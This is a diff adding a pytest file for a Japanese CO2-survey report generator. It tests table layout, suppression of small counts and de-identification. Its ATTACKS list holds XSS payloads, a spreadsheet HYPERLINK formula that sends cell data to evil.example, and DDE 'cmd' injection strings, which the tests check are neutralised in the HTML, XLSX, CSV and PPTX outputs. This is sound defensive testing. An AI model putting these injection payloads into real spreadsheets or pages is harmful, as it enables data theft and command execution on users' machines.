@@ -1,0 +1,248 @@
+"""The categorised issue report: tables, suppression, de-identification and attack tests."""
+
+from __future__ import annotations
+
+import re
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+from pptx import Presentation
+
+from cntf_workbench.survey import report as rp
+from cntf_workbench.survey import tabulate
+from cntf_workbench.survey.io import load_responses, read_raw
+from cntf_workbench.survey.taxonomy import SURVEYS
+
+SAMPLE = SURVEYS / "sample_responses.csv"
+PAIN_HEADER = "CO2排出量の算出や共有で困っていること（困りごと）を自由にお書きください。"
+
+ATTACKS = [
+    "<script>alert('x')</script>Tier2の仕入先のデータが集まらない",
+    '<img src=x onerror="alert(1)">二次サプライヤーのデータが入ってこない',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3 Tier3のデータ連携",
+    "担当の田中太郎さん（tanaka@example.co.jp、03-1234-5678）に https://evil.example/x を送った",
+    "株式会社サンプル精機と鈴木様から様式が違うと言われた",
+    "配賦" + "の方法が分からない。" * 6000,  # about 100,000 characters
+]
+
+
+@pytest.fixture(scope="module")
+def sample_report():
+    return rp.build_report(load_responses(SAMPLE))
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """The sample with hostile answers in the pain-point column (written to a copy)."""
+    frame, _ = read_raw(SAMPLE)
+    for i, payload in enumerate(ATTACKS * 3):
+        frame.loc[i, PAIN_HEADER] = payload
+    path = tmp_path_factory.mktemp("attack") / "hostile.csv"
+    frame.to_csv(path, index=False, encoding="utf-8")
+    report = rp.build_report(load_responses(path))
+    out = rp.write_report(report, path.parent / "out")
+    return report, out
+
+
+# --- tables -------------------------------------------------------------------------------------
+
+
+def test_issue_table_is_the_seminar_layout(sample_report):
+    issues = sample_report.issues
+    assert list(issues.columns[:8]) == [
+        "id",
+        "困りごと",
+        "目指す姿",
+        "解決策案",
+        "対象区分",
+        "回答者数",
+        "割合",
+        "代表的な回答",
+    ]
+    assert list(issues["id"]) == [f"P{i}" for i in range(1, 9)] + ["other"]
+    assert issues.set_index("id").loc["P8", "目指す姿"] == "多企業に渡るCO2データの流通、共有"
+
+
+def test_counts_agree_with_categorize(sample_report):
+    coded = sample_report.coded
+    pains = coded[coded["question"] == "pain_text"]
+    for row in sample_report.issues.itertuples(index=False):
+        n = int((pains["pain_point"] == row.id).sum())
+        shown = row[5]
+        assert shown == (tabulate.HIDDEN if 0 < n < 5 else n)
+        if shown != tabulate.HIDDEN:
+            assert row[6] == pytest.approx(n / sample_report.n_respondents, abs=1e-4)
+
+
+def _numbers(frame: pd.DataFrame) -> list[int]:
+    return [v for v in frame.to_numpy().ravel() if isinstance(v, int) and not isinstance(v, bool)]
+
+
+def test_no_small_cell_is_published(sample_report):
+    for table in (sample_report.by_tier, sample_report.by_size, sample_report.categories):
+        assert all(v == 0 or v >= 5 for v in _numbers(table.drop(columns=table.columns[0])))
+    counts = [v for v in sample_report.issues["回答者数"] if v != tabulate.HIDDEN]
+    assert all(v == 0 or v >= 5 for v in counts)
+
+
+def test_hidden_cells_cannot_be_recomputed_from_row_totals(sample_report):
+    for table in (sample_report.by_tier, sample_report.by_size):
+        inner = table.drop(columns=[table.columns[0], tabulate.TOTAL])
+        for row, total in zip(inner.to_numpy(), table[tabulate.TOTAL], strict=True):
+            hidden = sum(v == tabulate.HIDDEN for v in row)
+            assert hidden != 1 or total == tabulate.HIDDEN
+
+
+def test_tier_breakdown_adds_up(sample_report):
+    table = sample_report.by_tier
+    inner = table.drop(columns=[table.columns[0], tabulate.TOTAL])
+    for row, total in zip(inner.to_numpy(), table[tabulate.TOTAL], strict=True):
+        if all(v != tabulate.HIDDEN for v in row) and total != tabulate.HIDDEN:
+            assert sum(row) == total
+
+
+def test_need_linkage_share(sample_report):
+    responses = load_responses(SAMPLE).responses
+    expected = float((responses["need_linkage"].dropna() >= 4).mean())
+    row = sample_report.needs.set_index("question_id").loc["need_linkage"]
+    assert row["賛成（4・5）"] == pytest.approx(expected, abs=1e-4)
+
+
+def test_quotes_only_for_published_codes(sample_report):
+    for row in sample_report.issues.itertuples(index=False):
+        if row[5] == tabulate.HIDDEN:
+            assert sample_report.quotes[row.id] == []
+
+
+# --- de-identification --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "gone", "placeholder"),
+    [
+        ("連絡は tanaka.t@example.co.jp まで", "tanaka", "[メール]"),
+        ("電話 03-1234-5678 にください", "1234", "[電話番号]"),
+        ("携帯09012345678へ", "0901", "[電話番号]"),
+        ("+81 3 1234 5678 まで", "1234", "[電話番号]"),
+        ("詳細は https://example.com/a?b=1 を参照", "example", "[URL]"),
+        ("www.example.co.jp を見て", "example", "[URL]"),
+        ("担当の田中さんが困っている", "田中", "[人名]"),
+        ("山田太郎部長に説明した", "山田", "[人名]"),
+        ("トヨタ自動車株式会社の要請", "トヨタ", "[企業名]"),
+        ("(株)サンプル精機の要請", "サンプル", "[企業名]"),
+        ("デンソー社の様式", "デンソー", "[企業名]"),
+    ],
+)
+def test_deidentify(text, gone, placeholder):
+    out = rp.deidentify(text)
+    assert gone not in out and placeholder in out
+
+
+def test_deidentify_keeps_ordinary_words():
+    text = "愛知県の工場でTier2の仕入先から1,845kWhのデータ連携をしたい"
+    assert rp.deidentify(text) == text
+
+
+# --- attack tests -------------------------------------------------------------------------------
+
+
+def test_html_runs_nothing(attacked):
+    _, out = attacked
+    html = out["html"].read_text(encoding="utf-8")
+    assert "<script" not in html.lower()
+    tags = re.findall(r"<img\b[^>]*>", html)
+    assert tags and all('src="data:image/png;base64,' in t for t in tags)
+    assert not re.search(r"<[^>]*\son\w+\s*=", html)  # no event handler inside any tag
+    assert "Content-Security-Policy" in html and "default-src 'none'" in html
+    assert "&lt;script&gt;" in html or "&lt;img" in html  # the payload is shown, as text
+
+
+def test_html_is_self_contained(attacked):
+    _, out = attacked
+    html = out["html"].read_text(encoding="utf-8")
+    assert not re.search(r"""(?:src|href)=["'](?!data:)""", html)
+
+
+def test_xlsx_never_holds_a_formula(attacked):
+    _, out = attacked
+    book = load_workbook(out["xlsx"])
+    assert {"困りごと一覧", "対象区分別", "立場別", "規模別", "ニーズ", "回答の分類"} <= set(
+        book.sheetnames
+    )
+    starts = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                    starts += 1
+    assert starts >= 3  # the payloads are there, as text
+
+
+def test_csv_cells_are_protected(attacked):
+    _, out = attacked
+    frame = pd.read_csv(out["csv"], dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    for value in frame.to_numpy().ravel():
+        assert not value.startswith(("=", "+", "-", "@")), value
+    assert frame["text"].str.startswith("'=HYPERLINK").any()
+
+
+def test_cell_text():
+    assert rp.cell_text("=1+1") == "'=1+1"
+    assert rp.cell_text("@SUM(A1)") == "'@SUM(A1)"
+    assert rp.cell_text("\t=1") == "'\t=1"
+    assert rp.cell_text("配賦") == "配賦"
+    assert rp.cell_text(-3) == -3
+
+
+def test_personal_data_never_reaches_any_output(attacked):
+    _report, out = attacked
+    blobs = [out["html"].read_text(encoding="utf-8"), out["csv"].read_text(encoding="utf-8-sig")]
+    book = load_workbook(out["xlsx"])
+    blobs.append(
+        "\n".join(
+            str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r if c.value
+        )
+    )
+    deck = Presentation(out["pptx"])
+    blobs.append(
+        "\n".join(sh.text_frame.text for s in deck.slides for sh in s.shapes if sh.has_text_frame)
+    )
+    for blob in blobs:
+        for secret in ("tanaka@example.co.jp", "03-1234-5678", "田中", "サンプル精機", "鈴木"):
+            assert secret not in blob
+        assert "https://evil.example/x" not in blob
+
+
+def test_very_long_answer_is_cut_in_quotes(attacked):
+    report, _ = attacked
+    assert all(len(q) <= rp.QUOTE_CHARS for qs in report.quotes.values() for q in qs)
+    assert report.coded["text"].str.len().max() > 50_000  # kept whole in the coded table
+
+
+def test_pptx_has_native_editable_charts(attacked):
+    _, out = attacked
+    deck = Presentation(out["pptx"])
+    charts = [sh for s in deck.slides for sh in s.shapes if sh.has_chart]
+    assert len(charts) == 2
+    assert len(deck.slides) == 3 + 9
+    values = list(charts[0].chart.plots[0].series[0].values)
+    assert all(v >= 5 for v in values)
+
+
+def test_missing_text_column_is_a_clear_error():
+    data = load_responses(SAMPLE)
+    with pytest.raises(rp.ReportError, match="自由記述"):
+        rp.build_report(data, columns=("nosuch",))
+
+
+def test_duplicate_respondent_counts_once():
+    data = load_responses(SAMPLE)
+    twice = pd.concat([data.responses, data.responses.head(3)], ignore_index=True)
+    data.responses = twice
+    report = rp.build_report(data)
+    assert report.n_respondents == 120
